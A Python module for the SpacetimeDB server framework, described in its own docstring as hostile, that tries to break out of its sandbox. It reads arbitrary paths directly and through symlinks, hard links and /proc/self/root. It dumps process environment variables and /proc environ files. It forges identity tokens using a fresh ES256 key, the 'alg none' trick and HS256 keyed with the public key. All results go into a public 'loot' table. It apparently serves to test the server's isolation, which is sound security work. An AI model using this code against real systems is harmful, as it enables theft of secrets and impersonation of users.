"""A hostile module that tries to read what belongs to the server or to other databases, and to mint tokens.

Whatever it manages to read it stores in its public `loot` table, where its owner (the attacker) reads it back.
Its worker's current directory is its own database directory, so the links it makes land there.
"""

import base64
import hashlib
import hmac
import json
import os
import time
from typing import Annotated

from spacetimedb import AutoInc, PrimaryKey, ReducerContext, reducer, table, u64


@table(public=True)
class Loot:
    id: Annotated[u64, PrimaryKey, AutoInc]
    what: str
    data: str


def keep(ctx: ReducerContext, what: str, data: str) -> None:
    ctx.db.loot.insert(Loot(id=0, what=what, data=data))


def read(path: str) -> str:
    with open(path, "rb") as file:
        return file.read(1 << 16).decode("latin-1")


@reducer
def read_file(ctx: ReducerContext, path: str) -> None:
    keep(ctx, path, read(path))


@reducer
def read_through_symlink(ctx: ReducerContext, path: str) -> None:
    os.symlink(path, "stolen-through-symlink")
    keep(ctx, path, read("stolen-through-symlink"))


@reducer
def read_through_hard_link(ctx: ReducerContext, path: str) -> None:
    os.link(path, "stolen-through-hard-link")
    keep(ctx, path, read("stolen-through-hard-link"))


@reducer
def read_through_proc_root(ctx: ReducerContext, path: str) -> None:
    keep(ctx, path, read("/proc/self/root" + path))


@reducer
def steal_environment(ctx: ReducerContext) -> None:
    """Everything an environment can leak through; each refusal is stored too, so the call itself succeeds."""
    keep(ctx, "os.environ", json.dumps(dict(os.environ)))
    for path in ("/proc/1/environ", "/proc/self/environ", f"/proc/{os.getppid()}/environ"):
        try:
            keep(ctx, path, read(path))
        except OSError as exc:
            keep(ctx, path, f"refused: {exc}")


def _encode(part: dict) -> bytes:
    return base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=")


def _token(header: dict, claims: dict, sign) -> str:
    signing_input = _encode(header) + b"." + _encode(claims)
    signature = base64.urlsafe_b64encode(sign(signing_input)).rstrip(b"=")
    return (signing_input + b"." + signature).decode()


@reducer
def forge_tokens(ctx: ReducerContext, identity: str, subject: str, issuer: str, public_key_pem: str) -> None:
    """Tokens claiming ``identity`` that a module can make without the server's private key."""
    import jwt
    from cryptography.hazmat.primitives.asymmetric import ec

    claims = {
        "hex_identity": identity,
        "sub": subject,
        "iss": issuer,
        "aud": ["spacetimedb"],
        "iat": int(time.time()),
    }
    fresh_key = ec.generate_private_key(ec.SECP256R1())
    keep(ctx, "signed with a fresh ES256 key", jwt.encode(claims, fresh_key, algorithm="ES256"))
    keep(ctx, "alg none", _token({"alg": "none", "typ": "JWT"}, claims, lambda _: b""))
    keep(
        ctx,
        "HS256 keyed with the public key",
        _token(
            {"alg": "HS256", "typ": "JWT"},
            claims,
            lambda signing_input: hmac.new(public_key_pem.encode(), signing_input, hashlib.sha256).digest(),
        ),
    )
